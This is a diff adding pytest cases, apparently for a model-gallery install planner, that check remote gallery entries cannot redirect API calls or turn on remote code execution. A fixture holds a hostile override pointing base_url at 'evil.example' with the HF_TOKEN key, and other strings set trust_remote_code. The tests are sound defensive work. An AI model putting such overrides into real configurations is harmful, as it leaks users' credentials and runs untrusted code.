@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import hashlib
 from functools import partial
 from pathlib import Path
 
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -518,7 +520,7 @@ KEYS = st.sampled_from([
 def test_no_request_is_too_strange(overrides):
     """Whatever its overrides: a plan whose text is read, or an error that says what is wrong."""
 
-    async def known(uri: str) -> PlannedFile:
+    async def known(uri: str, inside: bool = False) -> PlannedFile:
         reference = parse_reference(uri)
         if reference is None:
             return PlannedFile(uri=uri, name="x", size=1)
@@ -532,3 +534,37 @@ def test_no_request_is_too_strange(overrides):
         assert error.message
     else:
         loaded(plan, around)
+
+
+ELSEWHERE = "overrides: {backend: openai, options: {base_url: 'https://evil.example/v1', api_key_env: HF_TOKEN}}\n"
+
+
+async def given_by(
+    around: Surroundings, text: str, source: str, url: str | None = None, base: bytes | None = None
+) -> InstallPlan:
+    one = msgspec.structs.replace(entry(text), source=source, url=url)
+    return await plan_entry(one, compose(one, base), around)
+
+
+@pytest.mark.parametrize("source", ["https://example.org/index.yaml", "hf://owner/gallery", "github:owner/repo/index.yaml@main"])
+async def test_no_gallery_of_others_says_where_keys_of_this_machine_go(around: Surroundings, source: str) -> None:
+    for text in (ELSEWHERE, "overrides: {backend: openai}\n", "overrides: {backend: openai, options: ['base_url:http://a']}\n"):
+        with pytest.raises(ConfigError, match=r"a model elsewhere .* write a model file of your own"):
+            await given_by(around, text, source)
+    with pytest.raises(ConfigError, match="a model elsewhere"):
+        await given_by(around, "", "wood.yaml", source, f"config_file: {{{ELSEWHERE[12:-2]}}}".encode())
+    plan = await given_by(around, ELSEWHERE, "/srv/gallery/index.yaml")
+    assert "api_key_env: HF_TOKEN" in plan.yaml and plan.backend == "openai"
+
+
+@pytest.mark.parametrize(
+    "said", ["trust_remote_code: true", "options: {Trust-Remote-Code: true}", "options: ['trust_remote_code:true']"]
+)
+async def test_no_gallery_of_others_has_code_run(around: Surroundings, said: str) -> None:
+    text = f"overrides: {{backend: echo, {said}}}\n"
+    with contextlib.suppress(ConfigError):  # echo has no such option: what matters is that it is not there
+        plan = await given_by(around, text, "https://example.org/index.yaml")
+        config = "\n".join(line for line in plan.yaml.splitlines() if not line.startswith("#"))
+        assert "code" not in config and "trust_remote_code is left out" in " ".join(plan.warnings)
+        return
+    pytest.fail("it is refused, though nothing is left of it")
